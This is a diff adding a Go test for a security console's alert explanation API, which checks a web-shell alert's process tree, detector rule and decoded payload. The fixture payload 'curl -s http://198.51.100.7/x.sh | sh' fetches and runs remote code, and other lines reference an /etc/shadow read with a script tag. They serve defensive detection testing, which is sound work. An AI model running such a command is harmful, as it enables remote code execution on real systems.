@@ -211,6 +211,35 @@ func TestConsoleAlertExplanation(t *testing.T) {
 	if strings.Contains(body, `href="/alerts/db-miner"`) {
 		t.Error("the miner is not similar to the web shell")
 	}
+	var ex struct {
+		Explanation struct {
+			Sentence string `json:"sentence"`
+			Incident string `json:"incident"`
+			Tree     *struct {
+				Exe      string `json:"exe"`
+				Host     bool   `json:"host"`
+				Children []json.RawMessage
+			} `json:"tree"`
+			Payloads []CmdPayloads `json:"payloads"`
+			Rule     *RuleView     `json:"rule"`
+			Similar  []string      `json:"similar"`
+			Peers    []string      `json:"peers"`
+		} `json:"explanation"`
+	}
+	r := site.authGet(t, "/api/v1/alerts/ws-shell/explanation")
+	if err := json.Unmarshal([]byte(r.body), &ex); err != nil || r.code != 200 {
+		t.Fatalf("explanation: %d %v %.300s", r.code, err, r.body)
+	}
+	e := ex.Explanation
+	if !strings.Contains(e.Sentence, "started by httpd") || !strings.HasPrefix(e.Incident, "inc-") || e.Tree == nil ||
+		e.Tree.Exe != "/usr/lib/systemd/systemd" || !e.Tree.Host || len(e.Payloads) != 1 ||
+		e.Payloads[0].Payloads[0].Decoded != "curl -s http://198.51.100.7/x.sh | sh" || e.Rule == nil || e.Rule.Detector != "web-shell" ||
+		!slices.Equal(e.Similar, []string{"ws-earlier"}) || !slices.Contains(e.Peers, "198.51.100.7:80 (connect)") {
+		t.Errorf("explanation %+v", e)
+	}
+	if r := site.authGet(t, "/api/v1/alerts/nope/explanation"); r.code != 404 {
+		t.Errorf("unknown alert's explanation: %d", r.code)
+	}
 	wantHTML(t, site.testServer, "/alerts/ws-shadow", "/etc/shadow&lt;script&gt;", "(read)", "<pre>(file.path.startsWithAny(sensitive_paths)")
 	wantHTML(t, site.testServer, "/alerts/db-miner", "No response recorded", "Not a built-in rule")
 }
